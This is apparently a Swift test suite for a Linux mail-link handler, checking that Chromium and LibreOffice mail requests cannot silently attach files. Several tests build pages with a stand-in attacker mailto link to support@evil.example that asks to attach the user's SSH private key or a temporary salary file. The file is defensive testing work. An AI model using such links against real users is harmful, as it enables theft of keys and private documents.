import Foundation
import Testing
import TestSupport

extension SheetTests {
    /// docs/design.md rule 8 against the real thing: Debian's Chromium shows a page served over
    /// HTTP whose link asks to attach the user's SSH key; a mouse click (XTest) on the
    /// link makes Chromium run `xdg-email URL`, which runs the hook `make install` puts on
    /// PATH. And LibreOffice's real senddoc, which runs `xdg-email URL` in the same form,
    /// from LibreOffice's app scope. The page's file is never attached on its own; the
    /// document is.
    @Suite struct WebPageLink {
        let sandbox: Sandbox
        let desktop: TestDesktop
        let secret: String
        let secretText = "-----BEGIN OPENSSH PRIVATE KEY-----\n"
        /// A session bus that activates nothing: no portal answers there.
        let portalFreeBus: PrivateSessionBus

        init() throws {
            sandbox = try Sandbox()
            try shortenTheUndoHold(sandbox)
            desktop = try TestDesktop.shared.get()
            portalFreeBus = try PrivateSessionBus()
            try sandbox.installXDGEmailHook()
            secret = try sandbox.write(secretText, to: "home/.ssh/id_rsa").path
        }

        /// The environment of the browser, hence of the xdg-email it runs: the sandbox's,
        /// its `bin` (the hook) first in PATH, on the test desktop.
        var environment: [String: String] { desktop.environment(sandbox.environment()) }

        /// A page that is one big link, at the top left of the screen, in `browser` on
        /// `bus`. Chromium's default is a session bus with no portal on it, so that its
        /// link goes through xdg-email whatever portals the machine has installed.
        func openPage(_ browser: BrowserPage.Browser = .chromium, bus: String? = nil) throws -> BrowserPage {
            let link = "mailto:support@evil.example?subject=Support&amp;attach=file://\(secret)"
            return try BrowserPage(
                body: "<a href=\"\(link)\" style=\"display:block;width:100vw;height:100vh\">Contact support</a>",
                desktop: desktop, environment: environment, directory: sandbox.root, browser: browser,
                bus: bus ?? (browser == .chromium ? portalFreeBus.address : nil))
        }

        func screenshot(_ name: String) -> String {
            let directory = packageRoot.appendingPathComponent(".build/sheet-screenshots")
            try? FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
            return "shot:" + directory.appendingPathComponent("\(name).png").path
        }

        /// The first message `server` received, waited for: the sheet runs under the
        /// browser, not as a child of the test.
        func arrived(at server: SMTPTestServer) -> URL? {
            try? waitUntil("a message arrives") { !server.messages.isEmpty }
            return server.messages.first
        }

        /// The parts of the first message `server` received, as Python's email package reads them.
        func arrivedParts(at server: SMTPTestServer) throws -> [[String: Any]] {
            let message = try #require(arrived(at: server))
            return try #require(try pythonView(of: message)["parts"] as? [[String: Any]])
        }

        /// Debian's real senddoc as LibreOffice runs it to mail `document` (Budget.odt) to
        /// ann@example.com, in `scope` when given.
        func startSenddoc(_ document: String, in scope: AppScope?) throws -> DesktopProgram {
            let command = ["/usr/lib/libreoffice/program/senddoc", "--mailclient", "sensible-lomua",
                           "--to", "ann@example.com", "--subject", "Budget.odt", "--attach", document]
            return try DesktopProgram(scope?.wrap(command) ?? command, environment: environment, directory: sandbox.root)
        }

        func outcomes() -> [String] {
            let log = sandbox.stateHome.appendingPathComponent("mailto-route/outcomes.log")
            return (sandbox.contents(log) ?? "").split(separator: "\n").map(String.init)
        }

        /// (a) No account, mailto-route registered over a recording Thunderbird: the click
        /// asks once, Thunderbird is chosen, the message is handed off, and Thunderbird's
        /// command line names no file; the log says what
        /// was not attached and that Chromium asked.
        @Test func chromiumLinkIsHandedOffWithoutTheFile() throws {
            try sandbox.installHandler("thunderbird.desktop", name: "Thunderbird", program: "thunderbird")
            try sandbox.setDefaultMailHandler("thunderbird.desktop")
            let register = try route(["register"], in: sandbox)
            #expect(register.status == 0, "\(register)")
            let page = try openPage()
            try page.click(x: 400, y: 300)
            // No account: the first click asks once; Thunderbird, this once.
            _ = try desktop.drive(["wait-chooser", "pick:Open in Thunderbird", "press:Just this once", "wait-chooser-gone"], timeout: 30)
            let argv = try #require(sandbox.recordedArgv("thunderbird", timeout: 30))
            #expect(argv == ["mailto:support@evil.example?subject=Support"], "\(argv)")
            #expect(!argv.joined().contains("id_rsa"))
            try waitUntil("the outcome is logged") { outcomes().last != nil }
            let line = try #require(outcomes().last)
            #expect(line.contains("not attached: \(secret) (Chromium asked for it"), "\(line)")
            #expect(try arrival(in: line) == ["xdg-email", "Chromium"], "\(line)")
        }

        /// How the outcome log says the link arrived: its `arrival` and `requestedBy`.
        func arrival(in line: String) throws -> [String?] {
            let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
            return [object?["arrival"] as? String, object?["requestedBy"] as? String]
        }

        /// (b) An account and a display: the click opens the sheet, which lists the key
        /// unticked under "Chromium asks to attach"; Ctrl+Enter sends a message that holds
        /// no attachment (Python's email reads it).
        @Test func chromiumLinkListsTheFileUntickedAndSendsWithoutIt() throws {
            let server = try SMTPTestServer(.plain)
            try writeAccount(sandbox, port: server.port, security: "none")
            let page = try openPage()
            try page.click(x: 400, y: 300)
            let steps = try desktop.drive([
                "wait-sheet", "wait-label:Chromium asks to attach", "state:\(secret)", screenshot("chromium-unticked-attach"),
                "append:Message:Hello", "key:ctrl+Return", "wait-window:Send without id_rsa?", "press:Send Without It", "wait-gone",
            ], timeout: 30)
            let row = try #require(steps.first { $0["step"] as? String == "state" })
            #expect(row["checked"] as? Bool == false, "\(row)")
            #expect(row["enabled"] as? Bool == true, "a person can still tick it: \(row)")
            let parts = try arrivedParts(at: server)
            #expect(parts.allSatisfy { $0["disposition"] as? String != "attachment" }, "\(parts)")
            #expect(try !String(contentsOf: try #require(server.messages.first), encoding: .utf8).contains("OPENSSH"))
        }

        /// LibreOffice's "Send document as e-mail": the real senddoc from LibreOffice's app
        /// scope reaches the sheet with the document ticked, and Send sends it.
        @Test func libreOfficeDocumentReachesTheSheetTicked() throws {
            let server = try SMTPTestServer(.plain)
            try writeAccount(sandbox, port: server.port, security: "none")
            let document = try sandbox.write("the budget\n", to: "lu4242.tmp/Budget.odt").path
            let scope = try AppScope(unit: #"app-gnome-libreoffice\x2dcalc-\#(getpid()).scope"#)
            let senddoc = try startSenddoc(document, in: scope)
            let steps = try desktop.drive([
                "wait-sheet", "state:Budget.odt", screenshot("libreoffice-document"), "press:Send", "wait-gone",
            ], timeout: 30)
            _ = senddoc.finish()
            let row = try #require(steps.first { $0["step"] as? String == "state" })
            #expect(row["checked"] as? Bool == true, "\(row)")
            let parts = try arrivedParts(at: server)
            let attached = parts.filter { $0["disposition"] as? String == "attachment" }
            #expect(attached.map { $0["filename"] as? String } == ["Budget.odt"], "\(parts)")
            #expect(attached.first?["sha256"] as? String == sha256(Data("the budget\n".utf8)))
        }

        /// Where nothing proves who asked (Debian's senddoc run with no LibreOffice behind
        /// it), the document is listed unticked with the reason, and Send asks before it
        /// goes without it; only "Send Without It" sends the message, and without it.
        @Test func anUnprovenDocumentIsUntickedAndSendAsksFirst() throws {
            let server = try SMTPTestServer(.plain)
            try writeAccount(sandbox, port: server.port, security: "none")
            let document = try sandbox.write("the budget\n", to: "lu4242.tmp/Budget.odt").path
            let senddoc = try startSenddoc(document, in: nil)
            let steps = try desktop.drive([
                "wait-sheet", "state:\(document)", "wait-label:Not ticked: nothing shows", "press:Send",
                "wait-window:Send without Budget.odt?", screenshot("unproven-document-question"), "press:Send Without It",
                "wait-gone",
            ], timeout: 30)
            _ = senddoc.finish()
            let row = try #require(steps.first { $0["step"] as? String == "state" })
            #expect(row["checked"] as? Bool == false, "\(row)")
            let parts = try arrivedParts(at: server)
            #expect(parts.allSatisfy { $0["disposition"] as? String != "attachment" }, "\(parts)")
        }

        // MARK: - LibreOffice started from a terminal

        /// The sandbox's environment with a temporary directory of its own (`TMPDIR`), in
        /// which LibreOffice makes its own (`lu<PID>….tmp`).
        func officeEnvironment() throws -> [String: String] {
            let temporary = sandbox.root.appendingPathComponent("tmp")
            try FileManager.default.createDirectory(at: temporary, withIntermediateDirectories: true)
            var environment = environment
            environment["TMPDIR"] = temporary.path
            return environment
        }

        /// An account on a fresh SMTP server, and the real LibreOffice, started outside any
        /// scope, doing Email Document on a file `name` holding `text`: both kept running.
        func emailDocumentFromLibreOffice(_ name: String, text: String) throws -> (SMTPTestServer, LibreOffice) {
            let server = try SMTPTestServer(.plain)
            try writeAccount(sandbox, port: server.port, security: "none")
            let document = try sandbox.write(text, to: "files/\(name)").path
            let office = try LibreOffice(environment: try officeEnvironment(), directory: sandbox.root)
            try office.emailDocument(document)
            return (server, office)
        }

        /// The files under LibreOffice's temporary directories in the sandbox's `TMPDIR`.
        func officeTemporaryFiles() -> [URL] {
            let temporary = sandbox.root.appendingPathComponent("tmp")
            let walker = FileManager.default.enumerator(at: temporary, includingPropertiesForKeys: nil)
            return (walker?.allObjects as? [URL] ?? []).filter {
                $0.path.contains("/lu") && (try? $0.resourceValues(forKeys: [.isRegularFileKey]))?.isRegularFile == true
            }
        }

        /// Issue 33: LibreOffice's real "Email Document" from a LibreOffice started outside
        /// any app scope (as from a terminal, or on openbox, Xfce, i3), where Debian's
        /// senddoc backgrounds xdg-email and exits: the sheet lists the document ticked,
        /// and Send mails it, byte for byte the file LibreOffice handed over (Python's
        /// email package reads the message).
        @Test func libreOfficeEmailDocumentOutsideAnyScopeSendsTheDocument() throws {
            let (server, office) = try emailDocumentFromLibreOffice("Budget.txt", text: "The budget, line by line.\n")
            let steps = try desktop.drive([
                "wait-sheet", "state:Budget.txt", screenshot("libreoffice-no-scope-document"), "type:To:ann@example.com",
                "press:Send", "wait-gone",
            ], timeout: 30)
            let row = try #require(steps.first { $0["step"] as? String == "state" })
            #expect(row["checked"] as? Bool == true, "\(row)")
            let parts = try arrivedParts(at: server)
            let attached = parts.filter { $0["disposition"] as? String == "attachment" }
            #expect(attached.map { $0["filename"] as? String } == ["Budget.txt"], "\(parts)")
            let handedOver = try #require(officeTemporaryFiles().first { $0.lastPathComponent == "Budget.txt" })
            #expect(attached.first?["sha256"] as? String == sha256(try Data(contentsOf: handedOver)))
            #expect(outcomes().last?.contains("not attached") == false, "\(outcomes())")
            withExtendedLifetime(office) {}
        }

        /// Rule 8 with LibreOffice running: a web page whose link names the document
        /// LibreOffice has just handed over, in its own temporary directory, gets it listed
        /// unticked as Chromium's ask; only LibreOffice's own xdg-email is trusted with it.
        @Test func aPageNamingLibreOfficesTemporaryFileGetsItUnticked() throws {
            let (server, office) = try emailDocumentFromLibreOffice("Salaries.txt", text: "Salaries\n")
            _ = try desktop.drive(["wait-sheet", "state:Salaries.txt", "press:Cancel", "wait-gone"], timeout: 30)
            let inside = try #require(officeTemporaryFiles().first { $0.lastPathComponent == "Salaries.txt" }).path
            let page = try BrowserPage(
                body: "<a href=\"mailto:support@evil.example?subject=Support&amp;attach=file://\(inside)\" "
                    + "style=\"display:block;width:100vw;height:100vh\">Contact support</a>",
                desktop: desktop, environment: environment, directory: sandbox.root, bus: portalFreeBus.address)
            try page.click(x: 400, y: 300)
            let steps = try desktop.drive([
                "wait-sheet", "wait-label:Chromium asks to attach", "state:\(inside)", "press:Cancel", "wait-gone",
            ], timeout: 30)
            let row = try #require(steps.first { $0["step"] as? String == "state" })
            #expect(row["checked"] as? Bool == false, "\(row)")
            withExtendedLifetime((server, office)) {}
        }
    }
}
